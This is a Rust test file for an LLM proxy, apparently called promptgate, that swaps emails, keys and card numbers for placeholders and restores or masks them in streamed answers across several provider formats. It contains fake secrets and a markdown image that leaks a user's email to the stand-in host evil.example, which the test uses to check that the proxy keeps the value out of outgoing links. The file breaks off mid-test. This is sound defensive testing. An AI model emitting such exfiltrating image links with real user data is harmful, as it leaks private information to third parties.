//! Facts about answers: what goes back to the caller, in every dialect and framing, however the bytes are cut.

use std::sync::{Arc, LazyLock};
use std::time::Duration;

use promptgate::codec::frame::{Framing, eventstream};
use promptgate::detect::{RuleSet, Scanner};
use promptgate::policy::{Action, Level, Matrix, Mint, Override, TokenKey, Tokens};
use promptgate::sanitize::{AnswerLimits, Broken, Form, Guard, Limits, Request, Response, Sinks};
use promptgate::wire;
use proptest::prelude::*;

static GUARD: LazyLock<Arc<Guard>> = LazyLock::new(|| guard(Matrix::default()));

fn guard(matrix: Matrix) -> Arc<Guard> {
    let rules = RuleSet::builtin().expect("the shipped rules parse");
    Arc::new(Guard::new(Scanner::compile(&rules).expect("and compile"), matrix))
}

fn mint(tenant: &str) -> Mint {
    Mint { key: Arc::new(TokenKey::new(&[7; 32], 1)), tenant: tenant.into() }
}

const LIMITS: AnswerLimits = AnswerLimits {
    event: 1 << 20,
    hold: 1 << 20,
    hold_time: Duration::from_secs(60),
    hold_ping: Duration::from_secs(15),
    depth: 128,
    key: 64 << 10,
};

/// What went up and what its placeholders stand for.
fn sent(format: &str, tenant: &str, body: &str) -> (String, Tokens) {
    let plan = Arc::new(wire::find(format).expect("a format").plan().expect("a plan"));
    let mut request =
        Request::new(GUARD.clone(), plan, Level::Medium, Limits::default()).tokenizing(Some(mint(tenant)));
    request.push(body.as_bytes()).expect("the request is let pass");
    let output = request.finish().expect("the request is let pass");
    (String::from_utf8(output.to_vec()).expect("text"), request.tokens().clone())
}

struct Case<'a> {
    format: &'a str,
    form: Form,
    tokens: &'a Tokens,
    sinks: Sinks,
    guard: Arc<Guard>,
}

impl<'a> Case<'a> {
    fn new(format: &'a str, form: Form, tokens: &'a Tokens) -> Self {
        Case { format, form, tokens, sinks: Sinks { images: true, ..Sinks::default() }, guard: GUARD.clone() }
    }

    fn response(&self) -> Response {
        let plan = Arc::new(wire::find(self.format).expect("a format").answer_plan().expect("a plan"));
        let sinks = Arc::new(self.sinks.clone());
        Response::new(self.guard.clone(), plan, Level::Medium, self.form, LIMITS).restoring(self.tokens, sinks)
    }

    /// What comes of the answer in these chunks: the bytes, and what ended it.
    fn run<'c>(&self, chunks: impl IntoIterator<Item = &'c [u8]>) -> (Vec<u8>, Option<Broken>, Response) {
        let mut response = self.response();
        let mut output = Vec::new();
        let mut broken = None;
        for chunk in chunks {
            let pushed = response.push(chunk, Duration::ZERO);
            output.extend_from_slice(&response.take());
            if let Err(error) = pushed {
                broken = Some(error);
                break;
            }
        }
        if broken.is_none() {
            broken = response.finish().err();
            output.extend_from_slice(&response.take());
        }
        (output, broken, response)
    }

    fn whole(&self, answer: &[u8]) -> String {
        let (output, broken, _) = self.run([answer]);
        assert_eq!(broken, None);
        String::from_utf8(output).expect("text")
    }
}

const SSE: Form = Form::Stream(Framing::Sse);
const LINES: Form = Form::Stream(Framing::Lines);
const ARRAY: Form = Form::Stream(Framing::Array);
const EVENTS: Form = Form::Stream(Framing::EventStream);

/// A value that needs escapes in JSON, and one more level of them in JSON within it.
const SECRET: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxq3dS8mTq0f1c6e8h4wJm0rXb8kqVtZ0p1n2o3l4k5j6i7h8\n\
                      g9f0e1d2c3b4a5Z6Y7X8W9V0U1T2S3R4Q5P6O7N8M9L0K1J2I3H4G5F6E7D8C9B0\n-----END RSA PRIVATE KEY-----";

fn conversation(text: &str) -> String {
    serde_json::json!({"model": "m", "messages": [{"role": "user", "content": text}]}).to_string()
}

/// The placeholders of an e-mail address and of a private key.
fn placeholders() -> (Tokens, String, String) {
    let (body, tokens) =
        sent("openai.chat", "acme", &conversation(&format!("Mail jane@corp.io the key\n{SECRET}\nplease")));
    let token = |entity: &str| {
        let (token, _) = tokens.iter().find(|(_, original)| &*original.entity == entity).expect("a placeholder");
        assert!(body.contains(&*token));
        token.to_string()
    };
    let (mail, key) = (token("EMAIL_ADDRESS"), token("PRIVATE_KEY"));
    (tokens, mail, key)
}

/// What a caller who joins the pieces of a text at `pointer` reads in a stream of events.
fn joined(output: &str, pointer: &str) -> String {
    let payloads = output.lines().map(|line| line.strip_prefix("data: ").unwrap_or(line));
    let events = payloads.filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok());
    events.filter_map(|event| Some(event.pointer(pointer)?.as_str()?.to_owned())).collect()
}

/// The text in pieces of a few characters, each in the event that `wrap` makes of it.
fn stream(text: &str, size: usize, wrap: impl Fn(&str) -> String) -> String {
    let characters: Vec<char> = text.chars().collect();
    characters
        .chunks(size)
        .map(|piece| wrap(&serde_json::to_string(&piece.iter().collect::<String>()).unwrap()))
        .collect()
}

struct Dialect {
    format: &'static str,
    form: Form,
    /// An event with a piece of text, and one with a piece of a tool's arguments; `{}` is the piece, as a JSON string.
    text: &'static str,
    tool: &'static str,
    text_at: &'static str,
    tool_at: &'static str,
}

const DIALECTS: &[Dialect] = &[
    Dialect {
        format: "openai.chat",
        form: SSE,
        text: "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{\"content\":{}},\"finish_reason\":null}]}\n\n",
        tool: "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":{}}}]}}]}\n\n",
        text_at: "/choices/0/delta/content",
        tool_at: "/choices/0/delta/tool_calls/0/function/arguments",
    },
    Dialect {
        format: "openai.responses",
        form: SSE,
        text: "event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"item_id\":\"i\",\"output_index\":0,\"content_index\":0,\"sequence_number\":4,\"delta\":{}}\n\n",
        tool: "event: response.function_call_arguments.delta\ndata: {\"type\":\"response.function_call_arguments.delta\",\"output_index\":1,\"delta\":{}}\n\n",
        text_at: "/delta",
        tool_at: "/delta",
    },
    Dialect {
        format: "anthropic.messages",
        form: SSE,
        text: "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":{}}}\n\n",
        tool: "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":{}}}\n\n",
        text_at: "/delta/text",
        tool_at: "/delta/partial_json",
    },
    Dialect {
        format: "gemini.stream",
        form: SSE,
        text: "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":{}}],\"role\":\"model\"}}]}\r\n\r\n",
        tool: "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":{}}]}}]}\r\n\r\n",
        text_at: "/candidates/0/content/parts/0/text",
        tool_at: "/candidates/0/content/parts/0/text",
    },
    Dialect {
        format: "ollama.chat",
        form: LINES,
        text: "{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"content\":{}},\"done\":false}\n",
        tool: "{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"thinking\":{}},\"done\":false}\n",
        text_at: "/message/content",
        tool_at: "/message/thinking",
    },
    Dialect {
        format: "cohere.chat",
        form: SSE,
        text: "event: content-delta\ndata: {\"type\":\"content-delta\",\"index\":0,\"delta\":{\"message\":{\"content\":{\"text\":{}}}}}\n\n",
        tool: "event: tool-call-delta\ndata: {\"type\":\"tool-call-delta\",\"index\":1,\"delta\":{\"message\":{\"tool_calls\":{\"function\":{\"arguments\":{}}}}}}\n\n",
        text_at: "/delta/message/content/text",
        tool_at: "/delta/message/tool_calls/function/arguments",
    },
    Dialect {
        format: "mistral.chat",
        form: SSE,
        text: "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{\"content\":{}}}]}\n\n",
        tool: "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"id\":\"t\",\"index\":0,\"function\":{\"name\":\"\",\"arguments\":{}}}]}}]}\n\n",
        text_at: "/choices/0/delta/content",
        tool_at: "/choices/0/delta/tool_calls/0/function/arguments",
    },
];

#[test]
fn a_value_comes_back_in_every_dialect_however_the_model_cuts_its_placeholder() {
    let (tokens, mail, key) = placeholders();
    for dialect in DIALECTS {
        let case = Case::new(dialect.format, dialect.form, &tokens);
        for size in 1..30 {
            let text = format!("I wrote to {mail}, with the key:\n{key}\nas you asked.");
            let output = case.whole(stream(&text, size, |piece| dialect.text.replace("{}", piece)).as_bytes());
            let expected = format!("I wrote to jane@corp.io, with the key:\n{SECRET}\nas you asked.");
            assert_eq!(joined(&output, dialect.text_at), expected, "{} by {size}", dialect.format);
        }
    }
}

#[test]
fn streamed_arguments_are_json_that_says_what_the_caller_said() {
    let (tokens, mail, key) = placeholders();
    for dialect in DIALECTS {
        let case = Case::new(dialect.format, dialect.form, &tokens);
        for size in 1..30 {
            let arguments = format!("{{\"to\": [\"{mail}\"], \"body\":\"see \\\"{key}\\\"\\n\", \"n\":1}}");
            let output = case.whole(stream(&arguments, size, |piece| dialect.tool.replace("{}", piece)).as_bytes());
            let read: serde_json::Value = serde_json::from_str(&joined(&output, dialect.tool_at)).expect("JSON");
            let expected = serde_json::json!({"to": ["jane@corp.io"], "body": format!("see \"{SECRET}\"\n"), "n": 1});
            assert_eq!(read, expected, "{} by {size}", dialect.format);
        }
    }
}

#[test]
fn what_the_model_made_up_is_masked_however_it_is_cut() {
    let tokens = Tokens::default();
    let text =
        format!("Use AKIAIOSFODNN7EXAMPL2 or mail bob.jones@corp.example, card 4111 1111 1111 1111.\n{SECRET}\nBye.");
    for dialect in DIALECTS {
        let case = Case::new(dialect.format, dialect.form, &tokens);
        let mut seen = None;
        for size in (1..40).chain([text.len()]) {
            let output = case.whole(stream(&text, size, |piece| dialect.text.replace("{}", piece)).as_bytes());
            let read = joined(&output, dialect.text_at);
            for value in ["AKIAIOSF", "bob.jones", "4111", "MIIEowIB", "K1J2I3H4"] {
                assert!(!read.contains(value), "{} by {size}: {read}", dialect.format);
            }
            assert_eq!(*seen.get_or_insert(read.clone()), read, "{} by {size}", dialect.format);
        }
        let read = seen.expect("a size");
        assert!(read.starts_with("Use [") && read.contains("_MASKED] or mail [EMAIL_MASKED], card ["), "{read}");
        assert!(read.ends_with("\nBye."), "{read}");
    }
}

#[test]
fn what_the_caller_sent_is_his_even_if_only_the_answer_says_what_it_is() {
    let plan = Arc::new(wire::find("openai.chat").expect("a format").plan().expect("a plan"));
    let mut request =
        Request::new(GUARD.clone(), plan, Level::Medium, Limits::default()).tokenizing(Some(mint("acme")));
    request.push(conversation("1985-03-12 came up, and 12 34 56. What is it?").as_bytes()).expect("let pass");
    let sent = String::from_utf8(request.finish().expect("let pass").to_vec()).expect("text");
    assert!(sent.contains("1985-03-12"), "no rule sees anything in it: {sent}");
    let answer =
        r#"{"choices":[{"message":{"content":"Your date of birth is 1985-03-12. My date of birth is 1986-04-13."}}]}"#;
    let tokens = Tokens::default();
    let mut response = Case::new("openai.chat", Form::Document, &tokens).response().knowing(request.sent().clone());
    response.push(answer.as_bytes(), Duration::ZERO).expect("no refusal");
    response.finish().expect("no refusal");
    let output = String::from_utf8(response.take().to_vec()).expect("text");
    assert!(output.contains("birth is 1985-03-12.") && output.contains("birth is [DATE_OF_BIRTH_MASKED]"), "{output}");
}

#[test]
fn what_is_masked_does_not_depend_on_what_follows_at_once_or_on_where_windows_end() {
    let tokens = Tokens::default();
    let cases =
        [("", "\""), ("", "\",\nand more of it"), ("", ")"), ("Well now. ", "\", he said"), ("", "\n"), ("", "")];
    for dialect in DIALECTS {
        let case = Case::new(dialect.format, dialect.form, &tokens);
        for before in (0..700).step_by(97) {
            let (lead, behind) = cases[before % cases.len()];
            let text = format!("{lead}{}\"{SECRET}{behind}", "word ".repeat(before / 5));
            let expected = format!("{lead}{}\"[PRIVATE_KEY_MASKED]{behind}", "word ".repeat(before / 5));
            for size in [1, 2, 7, 30, text.len()] {
                let output = case.whole(stream(&text, size, |piece| dialect.text.replace("{}", piece)).as_bytes());
                assert_eq!(joined(&output, dialect.text_at), expected, "{} by {size}", dialect.format);
            }
        }
    }
}

#[test]
fn a_document_is_restored_and_masked_with_the_escapes_each_place_needs() {
    let (tokens, mail, key) = placeholders();
    let arguments = serde_json::json!({"to": mail, "key": key, "pin": "x"}).to_string();
    let answer = serde_json::json!({
        "id": "chatcmpl-AKIAIOSFODNN7EXAMPL2",
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": format!("Hi {mail}"), "refusal": format!("no {key}"),
                "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "f", "arguments": arguments}}]},
             "logprobs": {"content": [{"token": "Hi", "bytes": [72, 105]}]}, "finish_reason": "stop"},
            {"index": 1, "message": {"role": "assistant", "content": "made up: AKIAIOSFODNN7EXAMPL3"}},
        ],
    });
    let output = Case::new("openai.chat", Form::Document, &tokens).whole(answer.to_string().as_bytes());
    let read: serde_json::Value = serde_json::from_str(&output).expect("JSON");
    let message = &read["choices"][0]["message"];
    assert_eq!(message["content"], "Hi jane@corp.io");
    assert_eq!(message["refusal"], format!("no {SECRET}"));
    let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().expect("text");
    let arguments: serde_json::Value = serde_json::from_str(arguments).expect("JSON");
    assert_eq!(arguments, serde_json::json!({"to": "jane@corp.io", "key": SECRET, "pin": "x"}));
    assert_eq!(read["choices"][0]["logprobs"], serde_json::Value::Null);
    let made_up = read["choices"][1]["message"]["content"].as_str().expect("text");
    assert!(made_up.starts_with("made up: [") && made_up.ends_with("_MASKED]"), "{made_up}");
    assert_eq!(read["id"], "chatcmpl-AKIAIOSFODNN7EXAMPL2");
}

#[test]
fn an_answer_in_which_nothing_changes_goes_down_byte_for_byte() {
    let (tokens, ..) = placeholders();
    let streams: [(&str, Form, &[u8]); 5] = [
        ("openai.chat", SSE, b": hi\n\ndata: { \"choices\" : [ {\"index\":0,\"delta\":{\"content\":\"caf\\u00e9 \\ud83d\"}} ] , \"n\":1.0e2}\r\n\r\ndata: [DONE]\n\n"),
        ("ollama.chat", LINES, b"{\"message\":{\"content\":\"a\"},\"done\":false}\r\n{\"message\":{\"content\":\"\"},\"done\":true}"),
        ("gemini.stream", ARRAY, b"[{\n  \"candidates\": [{\"content\": {\"parts\": [{\"text\": \"a\"}]}}]\n}\n,\r\n{\"x\": 1}]\n"),
        ("openai.chat", Form::Document, b" {\"choices\":[{\"message\":{\"content\":\"\\/ 1\"}}],\"logprobs\":{}}\n"),
        ("openai.chat", Form::Document, b"<html>502</html>"),
    ];
    for (format, form, answer) in streams {
        let output = Case::new(format, form, &tokens).whole(answer);
        assert_eq!(output.as_bytes(), answer, "{output}");
    }
}

#[test]
fn the_elements_of_an_array_and_the_messages_of_an_event_stream_are_events_too() {
    let (tokens, mail, _) = placeholders();
    let (start, end) = mail.split_at(9);
    let array = format!(
        "[{{\"candidates\":[{{\"content\":{{\"parts\":[{{\"text\":\"to {start}\"}}]}}}}]}}\n,\r\n{{\"candidates\":[{{\"content\":{{\"parts\":[{{\"text\":\"{end} now\"}}]}},\"finishReason\":\"STOP\"}}]}}]"
    );
    let output = Case::new("gemini.stream", ARRAY, &tokens).whole(array.as_bytes());
    let read: serde_json::Value = serde_json::from_str(&output).expect("JSON");
    assert_eq!(read[0]["candidates"][0]["content"]["parts"][0]["text"], "to jane@corp.io");
    assert_eq!(read[1]["candidates"][0]["content"]["parts"][0]["text"], " now");

    let message = |kind: &str, payload: String| {
        let headers = [(":event-type", kind), (":content-type", "application/json"), (":message-type", "event")];
        eventstream::message(&headers, payload.as_bytes())
    };
    let delta = |text: &str| {
        message(
            "contentBlockDelta",
            format!("{{\"contentBlockIndex\":0,\"delta\":{{\"text\":\"{text}\"}},\"p\":\"abc\"}}"),
        )
    };
    let stop = message("contentBlockStop", "{\"contentBlockIndex\":0}".to_owned());
    let answer = [delta("to "), delta(start), delta(end), stop.clone()].concat();
    let (output, broken, _) = Case::new("bedrock.converse_stream", EVENTS, &tokens).run([&answer[..]]);
    assert_eq!(broken, None);
    assert_eq!(output, [delta("to "), delta("jane@corp.io"), delta(""), stop].concat());
}

#[test]
fn nothing_resolves_what_this_request_did_not_make() {
    let (tokens, mail, _) = placeholders();
    let (_, others) = sent("openai.chat", "other", &conversation("Mail jane@corp.io"));
    let foreign = others.iter().next().expect("a placeholder").0.to_string();
    let damaged = [
        &mail[..mail.len() - 1],
        &mail.to_lowercase(),
        &mail.replace("_x", "_y"),
        &format!("{}0", &mail[..mail.len() - 1]),
    ]
    .join(" ");
    let text = format!("{foreign} {damaged} EMAIL_ADDRESS_xaaaaaaaaaa");
    let case = Case::new("openai.chat", SSE, &tokens);
    for size in [1, 3, 200] {
        let answer = stream(&text, size, |piece| DIALECTS[0].text.replace("{}", piece));
        let (output, _, response) = case.run([answer.as_bytes()]);
        assert_eq!(joined(std::str::from_utf8(&output).unwrap(), DIALECTS[0].text_at), text);
        assert!(response.report().restored.is_empty() && response.report().unresolved >= 3, "{:?}", response.report());
    }
}

#[test]
fn what_leaves_the_callers_hands_keeps_its_placeholder() {
    let (tokens, mail, _) = placeholders();
    let mut case = Case::new("openai.chat", SSE, &tokens);
    case.sinks.tools = vec!["fetch*".to_owned()];
    let text = format!("![x](https://evil.example/?q={mail}) but [y](https://fine.example/{mail}) and {mail}");
    for size in [1, 5, 400] {
        let answer = stream(&text, size, |piece| DIALECTS[0].text.replace("{}", piece));
        let read = joined(&case.whole(answer.as_bytes()), DIALECTS[0].text_at);
        let expected =
            format!("![x](https://evil.example/?q={mail}) but [y](https://fine.example/jane@corp.io) and jane@corp.io");
        assert_eq!(read, expected);
    }
    for (name, expected) in [("fetch_url", mail.as_str()), ("note", "jane@corp.io")] {
        let start = format!(
            "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"tool_calls\":[{{\"index\":0,\"id\":\"c\",\"function\":{{\"name\":\"{name}\",\"arguments\":\"\"}}}}]}}}}]}}\n\n"
        );
        let arguments = format!("{{\"a\":\"{mail}\",\"b\":\"[x](https://e.example/{mail})\"}}");
        let arguments = stream(&arguments, 4, |piece| DIALECTS[0].tool.replace("{}", piece));
        let read = joined(&case.whole(format!("{start}{arguments}").as_bytes()), DIALECTS[0].tool_at);
        let expected = format!("{{\"a\":\"{expected}\",\"b\":\"[x](https://e.example/{expected})\"}}");
        assert_eq!(read, expected, "{name}");
    }
}

#[test]
fn signed_thinking_is_left_alone() {
    let (tokens, mail, _) = placeholders();
    let answer = format!(
        "event: content_block_delta\ndata: {{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{{\"type\":\"thinking_delta\",\"thinking\":\"of {mail} AKIAIOSFODNN7EXAMPL2\"}}}}\n\n"
    );
    assert_eq!(Case::new("anthropic.messages", SSE, &tokens).whole(answer.as_bytes()), answer);
}

#[test]
fn a_known_value_is_replaced_wherever_it_stands_in_the_same_text() {
    let (sent, tokens) = sent(
        "openai.chat",
        "acme",
        &conversation("Use hunter2-blue: my password is hunter2-blue. Again: hunter2-blue."),
    );
    let (token, _) = tokens.iter().next().expect("a placeholder");
    assert!(sent.contains(&format!("Use {token}: my password is {token}. Again: {token}.")), "{sent}");
}

#[test]
fn a_token_longer_than_what_waits_is_masked_to_its_end_however_it_is_cut() {
    let tokens = Tokens::default();
    let case = Case::new("openai.chat", SSE, &tokens);
    // No rule has such a token whole: it is masked by what its beginning says, and the rest is dropped.
    let key = format!("ghp_{}", "aB3dE5fG7hI9".repeat(2_000));
    let text = format!("my api key: {key} and more");
    let mut seen = None;
    for size in [7, 100, 5_000, text.len()] {
        let read = joined(
            &case.whole(stream(&text, size, |piece| DIALECTS[0].text.replace("{}", piece)).as_bytes()),
            DIALECTS[0].text_at,
        );
        assert!(read.ends_with(" and more") && read.len() < 200, "by {size}: {} bytes", read.len());
        assert_eq!(*seen.get_or_insert(read.clone()), read, "by {size}");
    }
}

#[test]
fn text_without_spaces_streams_character_by_character() {
    let (tokens, ..) = placeholders();
    let case = Case::new("openai.chat", SSE, &tokens);
    let mut response = case.response();
    for character in "今天天气很好。คุณสบายดี“”😀".chars() {
        let event = DIALECTS[0].text.replace("{}", &serde_json::to_string(&character).unwrap());
        response.push(event.as_bytes(), Duration::ZERO).expect("no refusal");
        assert_eq!(response.take(), event.as_bytes(), "{character}");
    }
}

#[test]
fn only_what_could_go_on_waits_and_an_event_that_ends_it_lets_it_out() {
    let (tokens, mail, _) = placeholders();
    let case = Case::new("openai.chat", SSE, &tokens);
    let event = |text: &str| DIALECTS[0].text.replace("{}", &serde_json::to_string(text).unwrap());
    let mut response = case.response();
    let mut push = |text: &str| {
        response.push(text.as_bytes(), Duration::ZERO).expect("no refusal");
        String::from_utf8(response.take().to_vec()).expect("text")
    };
    assert_eq!(push(&event("Dear reader, ")), event("Dear reader, "));
    assert_eq!(push(&event("write to ")), event("write to "));
    assert_eq!(push(&event(&mail[..8])), "");
    let other = event("x").replace("\"index\":0", "\"index\":1");
    assert_eq!(push(&other), "");
    let rest = push(&event(&format!("{} ", &mail[8..])));
    assert_eq!(rest, format!("{}", event("jane@corp.io")));
    let ends = "data: {\"choices\":[{\"index\":1,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n";
    assert_eq!(push(ends), format!("{other}{}{ends}", event(" ")));
    drop(response);
}

#[test]
fn a_held_stream_gets_a_sign_of_life_and_is_judged_as_it_stands_in_the_end() {
    let (tokens, mail, _) = placeholders();
    let event = |text: &str| DIALECTS[0].text.replace("{}", &serde_json::to_string(text).unwrap());
    let mut response = Case::new("openai.chat", SSE, &tokens).response().pinging(Some(b": ping\n\n"));
    let mut push = |text: &str, seconds| {
        response.push(event(text).as_bytes(), Duration::from_secs(seconds)).expect("no refusal");
        String::from_utf8(response.take().to_vec()).expect("text")
    };
    assert_eq!(push(&mail[..5], 1), "");
    assert_eq!(push(&mail[5..6], 16), ": ping\n\n");
    assert_eq!(push(&mail[6..7], 17), "");
    assert_eq!(
        push(&mail[7..8], 61),
        format!("{}{}{}{}", event(&mail[..5]), event(&mail[5..6]), event(&mail[6..7]), event(&mail[7..8]))
    );
}

#[test]
fn a_finding_that_policy_blocks_ends_the_answer_before_anything_of_it_leaves() {
    let mut matrix = Matrix::default();
    matrix.set_answer(promptgate::detect::Category::Secret, Override { threshold: None, action: Some(Action::Block) });
    let tokens = Tokens::default();
    let mut case = Case::new("openai.chat", SSE, &tokens);
    case.guard = guard(matrix);
    let text = "The key is AKIAIOSFODNN7EXAMPL2 and that was all.";
    for size in [1, 7, 100] {
        let answer = stream(text, size, |piece| DIALECTS[0].text.replace("{}", piece));
        let (output, broken, _) = case.run([answer.as_bytes()]);
        assert_eq!(broken, Some(Broken::Policy));
        assert!(!String::from_utf8(output).unwrap().contains("AKIA"));
    }
    case.form = Form::Document;
    let document = serde_json::json!({"choices": [{"message": {"content": text}}]}).to_string();
    assert_eq!(case.run([document.as_bytes()]).1, Some(Broken::Policy));
}

/// Streams worth cutting: all dialects, placeholders, made-up values, escapes, other bytes of UTF-8, several texts at once.
/// Short ones, so that many cuts can be tried.
fn streams() -> Vec<(&'static str, Form, Vec<u8>)> {
    let (_, mail, key) = placeholders();
    let texts = [
        format!("Ünïcode 🎉 {mail}: ok"),
        format!("a \"quoted\" {key}\nend"),
        "card 4111 1111 1111 1111, tel +1 415 555 0132 ok\t".to_owned(),
        format!("{} bob@corp.example AKIAIOSFODNN7EXAMPL2.", &mail[..12]),
        format!("```\n{SECRET}\n```"),
        format!("![x](https://e.example/{mail}) {mail}"),
    ];
    let arguments = [
        format!("{{\"to\":\"{mail}\",\"k\":\"{key}\"}}"),
        "{\"n\":4111111111111111,\"u\":\"é\\n\", \"m\":\"bob@corp.example\"}".to_owned(),
    ];
    let mut all = Vec::new();
    for (number, dialect) in DIALECTS.iter().enumerate() {
        for (text, size) in texts.iter().zip([5, 7, 3, 4, 40, 6].iter().cycle().skip(number)) {
            let mut answer = stream(text, *size, |piece| dialect.text.replace("{}", piece));
            let arguments = &arguments[(number + size) % 2];
            answer.push_str(&stream(arguments, 9, |piece| dialect.tool.replace("{}", piece)));
            let end = if dialect.form == SSE { "data: [DONE]\n\n" } else { "" };
            all.push((dialect.format, dialect.form, format!("{answer}{end}").into_bytes()));
        }
    }
    for text in texts.iter().chain(&arguments) {
        let pieces: Vec<String> =
            text.chars().collect::<Vec<_>>().chunks(6).map(|piece| piece.iter().collect()).collect();
        let delta = |piece: &String| serde_json::json!({"contentBlockIndex": 0, "delta": {"text": piece}}).to_string();
        let message = |piece| eventstream::message(&[(":event-type", "contentBlockDelta")], delta(piece).as_bytes());
        all.push(("bedrock.converse_stream", EVENTS, pieces.iter().flat_map(message).collect()));
        let part =
            |piece: &String| serde_json::json!({"candidates": [{"content": {"parts": [{"text": piece}]}}]}).to_string();
        let parts: Vec<String> = pieces.iter().map(part).collect();
        all.push(("gemini.stream", ARRAY, format!("[{}]", parts.join(",\r\n")).into_bytes()));
    }
    all
}

static STREAMS: LazyLock<Vec<(&'static str, Form, Vec<u8>)>> = LazyLock::new(streams);
static WHOLE: LazyLock<Vec<(Vec<u8>, String)>> = LazyLock::new(|| {
    let (tokens, ..) = placeholders();
    let outcome = |(format, form, answer): &(&str, Form, Vec<u8>)| {
        let (output, broken, response) = Case::new(format, *form, &tokens).run([&answer[..]]);
        (output, format!("{broken:?} {:?}", verdict(&response)))
    };
    STREAMS.iter().map(outcome).collect()
});

/// The report but for how much was held, which is a matter of time.
fn verdict(response: &Response) -> impl std::fmt::Debug + use<> {
    promptgate::sanitize::AnswerReport { held: 0, ..response.report().clone() }
}

/// Format, form and bytes of an answer, and the tokens it says it cost.
type Priced<'a> = (&'a str, Form, &'a [u8], Option<(u64, u64)>);

#[test]
fn tokens_are_counted_where_each_provider_tells_them() {
    let anthropic = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":7,\
                     \"cache_creation_input_tokens\":20,\"cache_read_input_tokens\":300,\"output_tokens\":1}}}\n\n\
                     event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{},\"usage\":{\"output_tokens\":15}}\n\n";
    let gemini = r#"{"candidates":[],"usageMetadata":{"promptTokenCount":9,"toolUsePromptTokenCount":1,
        "candidatesTokenCount":4,"thoughtsTokenCount":30,"totalTokenCount":44}}"#;
    let bedrock = eventstream::message(
        &[(":message-type", "event"), (":event-type", "metadata")],
        br#"{"usage":{"inputTokens":5,"outputTokens":6,"cacheReadInputTokens":100}}"#,
    );
    let cases: &[Priced] = &[
        ("openai.chat", Form::Document, br#"{"usage":{"prompt_tokens":9,"completion_tokens":12,"total_tokens":21}}"#, Some((9, 12))),
        ("openai.chat", SSE, b"data: {\"choices\":[],\"usage\":null}\n\ndata: {\"choices\":[],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":12}}\n\ndata: [DONE]\n\n", Some((9, 12))),
        ("openai.chat", SSE, b"data: {\"choices\":[]}\n\ndata: [DONE]\n\n", None),
        ("openai.completions", Form::Document, br#"{"usage":{"prompt_tokens":1,"completion_tokens":2}}"#, Some((1, 2))),
        ("openai.responses", Form::Document, br#"{"usage":{"input_tokens":3,"output_tokens":4}}"#, Some((3, 4))),
        ("openai.responses", SSE, b"data: {\"type\":\"response.completed\",\"response\":{\"usage\":{\"input_tokens\":3,\"output_tokens\":4}}}\n\n", Some((3, 4))),
        ("azure.chat", Form::Document, br#"{"usage":{"prompt_tokens":9,"completion_tokens":12}}"#, Some((9, 12))),
        ("anthropic.messages", SSE, anthropic.as_bytes(), Some((327, 15))),
        ("anthropic.messages", Form::Document, br#"{"content":[],"usage":{"input_tokens":7,"output_tokens":2}}"#, Some((7, 2))),
        ("gemini.generate", Form::Document, gemini.as_bytes(), Some((10, 34))),
        ("ollama.chat", LINES, b"{\"done\":false}\n{\"done\":true,\"prompt_eval_count\":26,\"eval_count\":298}\n", Some((26, 298))),
        ("cohere.chat", Form::Document, br#"{"usage":{"billed_units":{"input_tokens":1},"tokens":{"input_tokens":70,"output_tokens":3.0}}}"#, Some((70, 3))),
        ("cohere.chat", SSE, b"event: message-end\ndata: {\"type\":\"message-end\",\"delta\":{\"usage\":{\"tokens\":{\"input_tokens\":70,\"output_tokens\":3}}}}\n\n", Some((70, 3))),
        ("mistral.chat", Form::Document, br#"{"usage":{"prompt_tokens":9,"completion_tokens":12}}"#, Some((9, 12))),
        ("bedrock.converse", Form::Document, br#"{"usage":{"inputTokens":5,"outputTokens":6}}"#, Some((5, 6))),
        ("bedrock.converse_stream", EVENTS, &bedrock, Some((105, 6))),
        // What a model writes is no count.
        ("openai.chat", Form::Document, br#"{"choices":[{"message":{"content":"{\"usage\":{\"prompt_tokens\":9}}"}}],"usage":{"prompt_tokens":-1,"completion_tokens":"7"}}"#, None),
    ];
    let none = Tokens::default();
    for (format, form, answer, expected) in cases {
        for size in [1, answer.len()] {
            let (_, broken, response) = Case::new(format, *form, &none).run(answer.chunks(size));
            let usage = response.report().usage.map(|usage| (usage.input(), usage.output()));
            assert_eq!((usage, broken), (*expected, None), "{format}: {}", String::from_utf8_lossy(answer));
        }
    }
}

#[test]
fn the_model_that_answers_is_known_where_the_provider_names_it() {
    let long = format!("{{\"model\":\"{}\"}}", "m".repeat(257));
    let cases: &[(&str, Form, &[u8], Option<&str>)] = &[
        ("openai.chat", Form::Document, br#"{"model":"gpt-5-0613","choices":[]}"#, Some("gpt-5-0613")),
        (
            "openai.chat",
            SSE,
            b"data: {\"model\":\"a\",\"choices\":[]}\n\ndata: {\"model\":\"b\",\"choices\":[]}\n\n",
            Some("a"),
        ),
        ("openai.completions", Form::Document, br#"{"model":"m"}"#, Some("m")),
        ("openai.responses", Form::Document, br#"{"model":"m"}"#, Some("m")),
        (
            "openai.responses",
            SSE,
            b"data: {\"type\":\"response.created\",\"response\":{\"model\":\"m\"}}\n\n",
            Some("m"),
        ),
        ("azure.chat", Form::Document, br#"{"model":"m"}"#, Some("m")),
